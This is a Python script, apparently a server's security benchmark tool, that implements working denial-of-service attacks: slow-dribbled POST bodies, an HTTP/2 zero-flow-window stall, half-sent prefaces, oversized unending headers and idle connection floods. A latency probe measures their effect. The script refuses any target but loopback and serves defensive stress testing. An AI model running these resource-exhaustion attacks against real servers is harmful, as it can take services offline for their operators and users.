#!/usr/bin/env python3
"""The attacks of bench/hostile.sh, and its normal client.

    hostile.py ATTACK HOST:PORT   runs one attack, prints one JSON line
    hostile.py probe HOST:PORT SECONDS

Attacks (each bounded in time and count, against the given address only):

  dribble   20 connections POST an 8 KiB body to /kwargs, one byte per TCP
            segment; reports how many were answered 200
  h2stall   200 HTTP/2 connections (prior knowledge) announce a zero
            flow-control window, open 256 streams each and answer the
            server's pings; reports how many the server closed, and when
  preface   5,000 connections send half the HTTP/2 preface and wait
  heads     1,000 connections send a 371 KiB request head that never ends
  silent    3,000 connections send nothing

The probe sends GET /test on a fresh connection every 50 ms and prints the
median and 99th percentile of its latency.
"""

import asyncio
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def percentile(values, q):
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(q * len(values)))]


async def connect(host, port):
    reader, writer = await asyncio.open_connection(host, port)
    sock = writer.get_extra_info("socket")
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return reader, writer


async def open_many(host, port, count, parallel=256):
    """`count` connections, opened `parallel` at a time."""
    gate = asyncio.Semaphore(parallel)

    async def one():
        async with gate:
            return await connect(host, port)

    results = await asyncio.gather(*(one() for _ in range(count)), return_exceptions=True)
    return [r for r in results if not isinstance(r, BaseException)]


async def wait_closed(reader, deadline, statuses=None):
    """Reads until EOF or the deadline; the time of EOF, or None. Counts
    the status of an HTTP/1.1 answer in `statuses`."""
    first = b""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        try:
            data = await asyncio.wait_for(reader.read(65536), left)
        except asyncio.TimeoutError:
            return None
        except (ConnectionError, OSError):
            data = b""
        if len(first) < 16:
            first += data[:16]
        if not data:
            if statuses is not None and first.startswith(b"HTTP/1.1 "):
                status = first[9:12].decode()
                statuses[status] = statuses.get(status, 0) + 1
            return time.monotonic()


async def send(writer, payload, deadline):
    """Writes `payload` in 16 KiB pieces while the server reads it."""
    try:
        for at in range(0, len(payload), 16384):
            writer.write(payload[at : at + 16384])
            await asyncio.wait_for(writer.drain(), max(0.01, deadline - time.monotonic()))
    except (asyncio.TimeoutError, ConnectionError, OSError):
        pass


async def hold(host, port, count, payload, seconds):
    """`count` connections send `payload` and wait up to `seconds` for the
    server to close them."""
    started = time.monotonic()
    conns = await open_many(host, port, count)
    deadline = time.monotonic() + seconds
    statuses = {}

    async def one(reader, writer):
        sending = asyncio.ensure_future(send(writer, payload, deadline))
        closed = await wait_closed(reader, deadline, statuses)
        sending.cancel()
        return closed

    closed_at = await asyncio.gather(*(one(r, w) for r, w in conns))
    for _, writer in conns:
        writer.close()
    closed = [t - started for t in closed_at if t is not None]
    return {
        "connections": len(conns),
        "closed_by_server": len(closed),
        "closed_after_s": round(max(closed), 1) if closed else None,
        "statuses": statuses,
    }


async def dribble(host, port, count=20, size=8192):
    async def one():
        reader, writer = await connect(host, port)
        head = f"POST /kwargs HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n"
        writer.write(head.encode())
        await writer.drain()
        for _ in range(size):
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(0.001)
        reply = await asyncio.wait_for(reader.read(65536), 30)
        writer.close()
        return reply.startswith(b"HTTP/1.1 200")

    results = await asyncio.gather(*(one() for _ in range(count)), return_exceptions=True)
    return {
        "connections": count,
        "body_bytes": size,
        "answered_200": sum(1 for r in results if r is True),
    }


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """HPACK: literal header field without indexing, indexed name."""
    value = value.encode()
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


async def h2stall(host, port, count=200, streams=256, seconds=45):
    started = time.monotonic()
    deadline = started + seconds
    block = (
        b"\x82\x86"  # :method GET, :scheme http
        + literal(4, "/kwargs?a=" + "x" * 100)  # :path
        + literal(1, host)  # :authority
    )
    # SETTINGS: ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 0.
    hello = PREFACE + frame(4, 0, 0, struct.pack(">HIHI", 2, 0, 4, 0))
    hello += b"".join(frame(1, 0x5, 2 * i + 1, block) for i in range(streams))
    conns = await open_many(host, port, count)
    counts = {"headers": 0, "pings": 0, "goaway": 0}

    async def one(reader, writer):
        writer.write(hello)
        buffer = b""
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            try:
                data = await asyncio.wait_for(reader.read(65536), left)
            except asyncio.TimeoutError:
                return None
            except (ConnectionError, OSError):
                return time.monotonic()
            if not data:
                return time.monotonic()
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                payload = buffer[9 : 9 + length]
                buffer = buffer[9 + length :]
                if kind == 4 and not flags & 1:
                    writer.write(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    counts["pings"] += 1
                    writer.write(frame(6, 1, 0, payload))
                elif kind == 1:
                    counts["headers"] += 1
                elif kind == 7:
                    counts["goaway"] += 1

    closed_at = await asyncio.gather(*(one(r, w) for r, w in conns))
    for _, writer in conns:
        writer.close()
    closed = [t - started for t in closed_at if t is not None]
    return {
        "connections": len(conns),
        "streams_opened": len(conns) * streams,
        "responses_started": counts["headers"],
        "pings_answered": counts["pings"],
        "closed_by_server": len(closed),
        "closed_after_s": round(max(closed), 1) if closed else None,
    }


async def probe(host, port, seconds):
    latencies, errors = [], 0
    end = time.monotonic() + seconds
    request = f"GET /test?a=probe HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    while time.monotonic() < end:
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(connect(host, port), 5)
            writer.write(request)
            reply = await asyncio.wait_for(reader.read(4096), 5)
            writer.close()
            if reply.startswith(b"HTTP/1.1 200"):
                latencies.append((time.monotonic() - started) * 1000)
            else:
                errors += 1
        except (asyncio.TimeoutError, ConnectionError, OSError):
            errors += 1
        await asyncio.sleep(0.05)
    return {
        "requests": len(latencies) + errors,
        "errors": errors,
        "p50_ms": round(percentile(latencies, 0.50), 2) if latencies else None,
        "p99_ms": round(percentile(latencies, 0.99), 2) if latencies else None,
    }


def main():
    if len(sys.argv) < 3:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    attack, address = sys.argv[1], sys.argv[2]
    host, port = address.rsplit(":", 1)
    port = int(port)
    if host not in ("127.0.0.1", "localhost", "::1"):
        sys.exit("hostile.py attacks the loopback interface only")
    if attack == "dribble":
        result = dribble(host, port)
    elif attack == "h2stall":
        result = h2stall(host, port)
    elif attack == "preface":
        result = hold(host, port, 5000, b"PRI * HTTP/2.0\r\n", 15)
    elif attack == "heads":
        head = b"GET /test HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (371 << 10)
        result = hold(host, port, 1000, head, 15)
    elif attack == "silent":
        result = hold(host, port, 3000, b"", 15)
    elif attack == "probe":
        result = probe(host, port, float(sys.argv[3]))
    else:
        sys.exit(f"unknown attack {attack}")
    print(json.dumps(asyncio.run(result)))


if __name__ == "__main__":
    main()
